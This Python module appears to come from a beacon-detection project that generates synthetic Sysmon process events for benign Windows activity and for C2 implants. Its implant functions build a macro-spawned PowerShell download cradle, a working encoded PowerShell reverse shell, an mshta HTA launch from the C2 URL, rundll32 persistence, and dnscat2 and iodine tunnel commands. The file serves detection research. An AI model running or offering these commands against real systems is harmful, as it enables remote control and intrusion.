"""The Windows processes behind the synthetic traffic, as Sysmon describes them.

Modelled on a domain-joined Windows 10/11 workstation:

* boot processes that start before the Sysmon service (``System``, ``wininit``,
  ``winlogon``, ``services``, ``lsass``) have no process-create event, exactly
  as in a real Sysmon log; every other process has one;
* services start from ``services.exe`` at boot: one ``svchost.exe`` per service
  group with its real command line and account (the DNS client and CryptoAPI
  under ``NETWORK SERVICE``, telemetry, Windows Update and Group Policy under
  ``SYSTEM``), the EDR and the Google updater service;
* the user's session: ``userinit.exe`` -> ``explorer.exe`` at logon, startup
  apps (Outlook, Slack, Dropbox) soon after, the browser when first used.
  Chromium browsers talk through their network-service utility process (the
  same image, a child of the main one); Firefox through its main process;
* implants with each family's usual tradecraft: Cobalt Strike as a hidden
  ``powershell.exe -EncodedCommand`` download cradle spawned by a macro in
  ``WINWORD.EXE``; Sliver as a Go executable in the user's Temp folder; Havoc
  as ``C:\\ProgramData\\svchost.exe`` (a system name in the wrong folder) with a
  Run-key value; Mythic as ``rundll32.exe <dll>,Start`` from ``cmd.exe`` with a
  shortcut in the Startup folder; Meterpreter as ``mshta.exe`` running an HTA
  from the C2 server.

A process is named by a key (``svchost:Dnscache``, ``browser``,
``implant:havoc``); :func:`process_key` maps a connection's label to it, and
the image of every key equals the ``process`` column of ``labels.csv``.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass
from functools import cache

import numpy as np

from beaconhunt.synth import catalog
from beaconhunt.synth.flows import Label
from beaconhunt.synth.implants import HiddenBeacon
from beaconhunt.synth.scenario import FAMILIES
from beaconhunt.synth.shapes.kinds import SHAPE_IMPLANTS
from beaconhunt.synth.world import Host
from beaconhunt.synth.zoo import ZOO

__all__ = [
    "PRE_SYSMON",
    "Persistence",
    "ProcSpec",
    "VersionInfo",
    "implant_specs",
    "process_key",
    "specs_for_host",
    "version_info",
]

_SYS32 = "C:\\Windows\\System32\\"
_SVCHOST = _SYS32 + "svchost.exe"
_POWERSHELL = _SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"


@dataclass(frozen=True, slots=True)
class VersionInfo:
    """The version resource Sysmon copies into event 1 (``-`` where a file has none)."""

    file_version: str = "-"
    description: str = "-"
    product: str = "-"
    company: str = "-"
    original: str = "-"


@dataclass(frozen=True, slots=True)
class ProcSpec:
    """One process of a host. ``image``/``command``/``directory`` may hold
    ``{user}``. ``start`` says when it starts: ``early`` (boot, before Sysmon:
    no event 1), ``boot`` (services), ``logon``, ``startup`` (apps started at
    logon) or ``lazy`` (just before it is first used). ``account`` is
    ``system``, ``network``, ``local`` or ``user``."""

    key: str
    image: str
    command: str
    parent: str | None
    account: str
    start: str
    directory: str = "C:\\Windows\\system32\\"


@dataclass(frozen=True, slots=True)
class Persistence:
    """What an implant writes to survive a reboot: event 13 (registry value set:
    ``target`` is the value's path, ``details`` its data) or event 11 (file
    created: ``target`` is the file)."""

    event_id: int
    target: str
    details: str = ""


#: Images of the boot processes that start before Sysmon (no event 1 exists for them).
PRE_SYSMON = frozenset(
    {"System", *(_SYS32 + n for n in ("wininit.exe", "winlogon.exe", "services.exe", "lsass.exe"))}
)

_BASE: tuple[ProcSpec, ...] = (
    ProcSpec("system", "System", "", None, "system", "early"),
    ProcSpec("wininit", _SYS32 + "wininit.exe", "wininit.exe", None, "system", "early"),
    ProcSpec("winlogon", _SYS32 + "winlogon.exe", "winlogon.exe", None, "system", "early"),
    ProcSpec(
        "services",
        _SYS32 + "services.exe",
        "C:\\Windows\\system32\\services.exe",
        "wininit",
        "system",
        "early",
    ),
    ProcSpec(
        "lsass",
        _SYS32 + "lsass.exe",
        "C:\\Windows\\system32\\lsass.exe",
        "wininit",
        "system",
        "early",
    ),
    ProcSpec(
        "userinit",
        _SYS32 + "userinit.exe",
        "C:\\Windows\\system32\\userinit.exe",
        "winlogon",
        "user",
        "logon",
    ),
    ProcSpec(
        "explorer",
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
        "userinit",
        "user",
        "logon",
    ),
    ProcSpec(
        "falcon",
        "C:\\Program Files\\CrowdStrike\\CSFalconService.exe",
        '"C:\\Program Files\\CrowdStrike\\CSFalconService.exe"',
        "services",
        "system",
        "boot",
    ),
    ProcSpec(
        "google_updater",
        "C:\\Program Files (x86)\\Google\\GoogleUpdater\\updater.exe",
        '"C:\\Program Files (x86)\\Google\\GoogleUpdater\\updater.exe" --system '
        "--windows-service --service=update",
        "services",
        "system",
        "boot",
    ),
    # services of the shapes' look-alikes (:mod:`beaconhunt.synth.shapes`)
    ProcSpec(
        "mcafee_tp",
        "C:\\Program Files\\McAfee\\Endpoint Security\\Threat Prevention\\mfetp.exe",
        '"C:\\Program Files\\McAfee\\Endpoint Security\\Threat Prevention\\mfetp.exe"',
        "services",
        "system",
        "boot",
    ),
    ProcSpec(
        "nwinsight",
        "C:\\Program Files\\Northwind\\Insight Agent\\nwiagent.exe",
        '"C:\\Program Files\\Northwind\\Insight Agent\\nwiagent.exe" --service',
        "services",
        "system",
        "boot",
    ),
    ProcSpec(
        "outlook",
        _OFFICE + "OUTLOOK.EXE",
        f'"{_OFFICE}OUTLOOK.EXE" ',
        "explorer",
        "user",
        "startup",
        _OFFICE,
    ),
    ProcSpec(
        "slack",
        "C:\\Users\\{user}\\AppData\\Local\\slack\\app-4.41.105\\slack.exe",
        '"C:\\Users\\{user}\\AppData\\Local\\slack\\app-4.41.105\\slack.exe" '
        "--process-start-args --startup",
        "explorer",
        "user",
        "startup",
        "C:\\Users\\{user}\\AppData\\Local\\slack\\app-4.41.105\\",
    ),
    ProcSpec(
        "dropbox",
        "C:\\Program Files (x86)\\Dropbox\\Client\\Dropbox.exe",
        '"C:\\Program Files (x86)\\Dropbox\\Client\\Dropbox.exe" /systemstartup',
        "explorer",
        "user",
        "startup",
    ),
)

#: svchost service -> (command-line tail, account)
_SERVICES = {
    "Dnscache": ("-k NetworkService -p -s Dnscache", "network"),
    "CryptSvc": ("-k NetworkService -p -s CryptSvc", "network"),
    "DiagTrack": ("-k utcsvc -p", "system"),
    "wuauserv": ("-k netsvcs -p -s wuauserv", "system"),
    "gpsvc": ("-k netsvcs -p -s gpsvc", "system"),
    "netsvcs": ("-k netsvcs -p", "system"),
}
#: label kind -> the svchost service that makes that traffic
_SERVICE_OF_KIND = {
    "internal_dns": "Dnscache",
    "browsing": "CryptSvc",  # OCSP and certificate trust lists
    "os_telemetry": "DiagTrack",
    "update_check": "wuauserv",
    "gpo_refresh": "gpsvc",
}
_BY_IMAGE = {s.image.lower(): s.key for s in _BASE}

_MS = "Microsoft Corporation"
_WINDOWS = "Microsoft\u00ae Windows\u00ae Operating System"
_WINVER = "10.0.22621.4391 (WinBuild.160101.0800)"
_VERSIONS: dict[str, VersionInfo] = {
    "svchost.exe": VersionInfo(
        _WINVER, "Host Process for Windows Services", _WINDOWS, _MS, "svchost.exe"
    ),
    "userinit.exe": VersionInfo(
        _WINVER, "Userinit Logon Application", _WINDOWS, _MS, "USERINIT.EXE"
    ),
    "explorer.exe": VersionInfo(_WINVER, "Windows Explorer", _WINDOWS, _MS, "EXPLORER.EXE"),
    "cmd.exe": VersionInfo(_WINVER, "Windows Command Processor", _WINDOWS, _MS, "Cmd.Exe"),
    "powershell.exe": VersionInfo(_WINVER, "Windows PowerShell", _WINDOWS, _MS, "PowerShell.EXE"),
    "rundll32.exe": VersionInfo(
        _WINVER, "Windows host process (Rundll32)", _WINDOWS, _MS, "RUNDLL32.EXE"
    ),
    "mshta.exe": VersionInfo(
        "11.00.22621.1 (WinBuild.160101.0800)",
        "Microsoft (R) HTML Application host",
        "Internet Explorer",
        _MS,
        "MSHTA.EXE",
    ),
    "winword.exe": VersionInfo(
        "16.0.18129.20116", "Microsoft Word", "Microsoft Office", _MS, "WinWord.exe"
    ),
    "outlook.exe": VersionInfo(
        "16.0.18129.20116", "Microsoft Outlook", "Microsoft Outlook", _MS, "Outlook.exe"
    ),
    "msedge.exe": VersionInfo(
        "142.0.3595.53", "Microsoft Edge", "Microsoft Edge", _MS, "msedge.exe"
    ),
    "chrome.exe": VersionInfo(
        "142.0.7444.60", "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe"
    ),
    "firefox.exe": VersionInfo(
        "145.0.1", "Firefox", "Firefox", "Mozilla Corporation", "firefox.exe"
    ),
    "slack.exe": VersionInfo("4.41.105", "Slack", "Slack", "Slack Technologies, LLC", "slack.exe"),
    "dropbox.exe": VersionInfo("236.4.6235", "Dropbox", "Dropbox", "Dropbox, Inc.", "Dropbox.exe"),
    "updater.exe": VersionInfo(
        "142.0.7416.0", "Google Updater", "Google Updater", "Google LLC", "updater.exe"
    ),
    "csfalconservice.exe": VersionInfo(
        "7.19.18913.0",
        "CrowdStrike Falcon Sensor Service",
        "CrowdStrike Falcon Sensor",
        "CrowdStrike, Inc.",
        "CSFalconService.exe",
    ),
}


def version_info(image: str, key: str) -> VersionInfo:
    """Version resource of ``image``; implants dropped by an attacker carry none,
    except those that run a genuine Windows binary."""
    name = image.rsplit("\\", 1)[-1].lower()
    if key.startswith("implant:") and not image.lower().startswith("c:\\windows\\"):
        return VersionInfo()
    return _VERSIONS.get(name) or _zoo_versions().get(name, VersionInfo())


@cache
def _zoo_versions() -> dict[str, VersionInfo]:
    """Version resources of the zoo's programs, where ``zoo.toml`` documents them."""
    out: dict[str, VersionInfo] = {}
    for k in ZOO:
        name = k.process.replace("/", "\\").rsplit("\\", 1)[-1].lower()
        if k.company and name.endswith(".exe"):
            product = name.removesuffix(".exe")
            out.setdefault(name, VersionInfo("1.0.0.0", product, product, k.company,
                                             k.original_file_name or name))  # fmt: skip
    return out


def process_key(lab: Label, image: str) -> str:
    """The process (key) that makes a connection of label ``lab`` whose image is ``image``."""
    if lab.kind in FAMILIES or lab.kind in SHAPE_IMPLANTS:
        return f"implant:{lab.kind}"
    if lab.process == "{browser}":
        return "browser"
    low = image.lower()
    if low == _SVCHOST.lower():
        return "svchost:" + _SERVICE_OF_KIND.get(lab.kind, "netsvcs")
    if image == "System":
        return "system"
    return _BY_IMAGE.get(low, "image:" + image)


def specs_for_host(
    host: Host, used: set[str], implants: dict[str, list[ProcSpec]]
) -> dict[str, ProcSpec]:
    """Every process ``used`` on ``host`` and all their ancestors, by key.

    ``implants`` holds the chains (:func:`implant_specs`) of the implants on
    this host, by family.
    """
    table = {s.key: s for s in _BASE}
    for key in used:
        if key.startswith("svchost:"):
            tail, account = _SERVICES[key.split(":", 1)[1]]
            table[key] = ProcSpec(
                key,
                _SVCHOST,
                f"C:\\Windows\\system32\\svchost.exe {tail}",
                "services",
                account,
                "boot",
            )
        elif key == "browser":
            table.update({s.key: s for s in _browser(host)})
        elif key.startswith("implant:"):
            table.update({s.key: s for s in implants[key.split(":", 1)[1]]})
        elif key.startswith("image:"):
            table[key] = _generic(key, key.split(":", 1)[1])
    out: dict[str, ProcSpec] = {}
    for key in sorted(used):
        k: str | None = key
        while k is not None and k not in out:
            out[k] = table[k]
            k = table[k].parent
    return out


def _browser(host: Host) -> list[ProcSpec]:
    """The browser's main process and, for Chromium, its network-service child."""
    name, _, image = catalog.BROWSERS[max(host.browser, 0)]
    folder = image.rsplit("\\", 1)[0] + "\\"
    if name == "firefox":
        return [ProcSpec("browser", image, f'"{image}" ', "explorer", "user", "lazy", folder)]
    main = ProcSpec(
        "browser_main",
        image,
        f'"{image}" --profile-directory=Default',
        "explorer",
        "user",
        "lazy",
        folder,
    )
    net = ProcSpec(
        "browser",
        image,
        f'"{image}" --type=utility --utility-sub-type=network.mojom.NetworkService '
        "--lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=2044 "
        f"--field-trial-handle=1960,i,{_digits(host.name)},262144 /prefetch:11",
        "browser_main",
        "user",
        "lazy",
        folder,
    )
    return [main, net]


def _digits(text: str) -> int:
    """A stable number from ``text`` (Chromium's field-trial handle, varies per host)."""
    return int(sum(ord(c) * 131**i for i, c in enumerate(text)) % 10**19)


def _generic(key: str, image: str) -> ProcSpec:
    """A process the catalogue does not know: a user app, or a service under Windows."""
    user = image.lower().startswith(("c:\\users\\", "c:\\program files"))
    parent, account = ("explorer", "user") if user else ("services", "system")
    return ProcSpec(key, image, f'"{image}"', parent, account, "startup" if user else "boot")


def implant_specs(
    beacon: HiddenBeacon, rng: np.random.Generator
) -> tuple[list[ProcSpec], list[Persistence]]:
    """The process chain of one implant (the check-in process last) and what it persists."""
    family = beacon.family
    if family in SHAPE_IMPLANTS:
        return _shape_specs(beacon, rng), []
    image = catalog.FAMILY_PROFILES[family].process
    key = f"implant:{family}"
    token = base64.urlsafe_b64encode(rng.bytes(6)).decode().rstrip("=")
    tls = beacon.transport != "http"
    scheme = "https" if tls else "http"
    default_port = 443 if tls else 80
    port = "" if beacon.dst_port == default_port else f":{beacon.dst_port}"
    url = f"{scheme}://{beacon.dst}{port}/{token}"
    home = "C:\\Users\\{user}\\"
    if family == "cobalt_strike":
        cradle = f"IEX ((New-Object Net.WebClient).DownloadString('{url}'))"
        enc = base64.b64encode(cradle.encode("utf-16-le")).decode()
        doc = f"{home}Downloads\\Remittance_Advice_{int(rng.integers(10000, 99999))}.docm"
        word = ProcSpec(
            "winword",
            _OFFICE + "WINWORD.EXE",
            f'"{_OFFICE}WINWORD.EXE" /n "{doc}" /o ""',
            "explorer",
            "user",
            "lazy",
            home + "Downloads\\",
        )
        ps = ProcSpec(
            key,
            image,
            f"powershell.exe -nop -w hidden -encodedcommand {enc}",
            "winword",
            "user",
            "lazy",
            home + "Documents\\",
        )
        return [word, ps], []
    if family == "sliver":
        temp = image.rsplit("\\", 1)[0] + "\\"
        return [ProcSpec(key, image, f'"{image}"', "explorer", "user", "lazy", temp)], []
    if family == "havoc":
        command = f"{image} -k netsvcs -p"
        run = "HKU\\{sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\WinSvcHost"
        spec = ProcSpec(key, image, command, "explorer", "user", "lazy", "C:\\ProgramData\\")
        return [spec], [Persistence(13, run, command)]
    if family == "mythic":
        dll = f"C:\\Users\\Public\\Libraries\\invoice_{int(rng.integers(1000, 9999))}.dll"
        call = f"rundll32.exe {dll},Start"
        cmd = ProcSpec(
            "cmd",
            _SYS32 + "cmd.exe",
            f'"C:\\Windows\\system32\\cmd.exe" /c {call}',
            "explorer",
            "user",
            "lazy",
            home + "Downloads\\",
        )
        startup = (
            f"{home}AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\"
            "OneDrive Sync.lnk"
        )
        spec = ProcSpec(key, image, call, "cmd", "user", "lazy", home + "Downloads\\")
        return [cmd, spec], [Persistence(11, startup)]
    hta = f'"{image}" {url}.hta'
    return [ProcSpec(key, image, hta, "explorer", "user", "lazy", home + "Downloads\\")], []


def _shape_specs(beacon: HiddenBeacon, rng: np.random.Generator) -> list[ProcSpec]:
    """The process chain of an implant of :mod:`beaconhunt.synth.shapes`."""
    family = beacon.family
    key = f"implant:{family}"
    image = beacon.process
    home = "C:\\Users\\{user}\\"
    folder = image.rsplit("\\", 1)[0] + "\\"
    if "\\users\\" in image.lower():  # the path per host again, with {user}
        rest = image.split("\\", 3)[3]
        image, folder = home + rest, home + rest.rsplit("\\", 1)[0] + "\\"
    if family == "interactive_c2" and image.lower() == _POWERSHELL.lower():
        host, port = beacon.dst, beacon.dst_port
        script = (
            f"$c=New-Object Net.Sockets.TcpClient('{host}',{port});"
            "$s=New-Object Net.Security.SslStream($c.GetStream(),$false,{$true});"
            f"$s.AuthenticateAsClient('{host}');"
            "while($true){$b=New-Object byte[] 65536;$n=$s.Read($b,0,$b.Length);"
            "if($n -le 0){break};$o=(iex ([Text.Encoding]::UTF8.GetString($b,0,$n)) 2>&1|"
            "Out-String);$r=[Text.Encoding]::UTF8.GetBytes($o);$s.Write($r,0,$r.Length)}"
        )
        enc = base64.b64encode(script.encode("utf-16-le")).decode()
        command = f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {enc}"
        return [ProcSpec(key, image, command, "explorer", "user", "lazy", home + "Documents\\")]
    if family == "dnscat2":
        secret = rng.bytes(16).hex()
        command = f'"{image}" --dns domain={beacon.dst} --secret={secret}'
        cmd = ProcSpec("cmd", _SYS32 + "cmd.exe",
                       f'"C:\\Windows\\system32\\cmd.exe" /c start /b "" "{image}"',
                       "explorer", "user", "lazy", folder)  # fmt: skip
        return [cmd, ProcSpec(key, image, command, "cmd", "user", "lazy", folder)]
    if family == "iodine":
        command = f'"{image}" -f -r -P {rng.bytes(6).hex()} t.{beacon.dst}'
        return [ProcSpec(key, image, command, "explorer", "user", "lazy", folder)]
    return [ProcSpec(key, image, f'"{image}"', "explorer", "user", "lazy", folder)]
